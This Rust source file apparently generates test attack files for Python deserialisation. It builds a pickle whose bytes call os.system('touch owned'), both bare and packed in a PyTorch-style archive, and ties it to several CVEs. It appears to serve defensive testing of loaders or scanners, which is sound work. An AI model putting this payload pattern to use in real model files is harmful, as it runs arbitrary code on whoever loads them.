//! Pickles that run code when they are unpickled as Python does it: what CVE-2024-2912,
//! CVE-2025-27520, CVE-2025-32375, CVE-2024-37055, CVE-2024-37060 and CVE-2026-96804 came down to.

use super::wire::zip;
use super::{Attack, put};

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack::file("a pickle that runs a command", bare, "pickle"),
        Attack::file("the same in a PyTorch archive", in_archive, "PyTorch"),
    ]
}

/// `os.system("touch owned")`, in protocol 2.
pub fn runs_a_command() -> Vec<u8> {
    b"\x80\x02cos\nsystem\nX\x0b\x00\x00\x00touch owned\x85R.".to_vec()
}

fn bare(folder: &std::path::Path) {
    put(folder, runs_a_command());
}

fn in_archive(folder: &std::path::Path) {
    put(folder, zip(&[("archive/data.pkl", &runs_a_command()), ("archive/version", b"3\n")]));
}
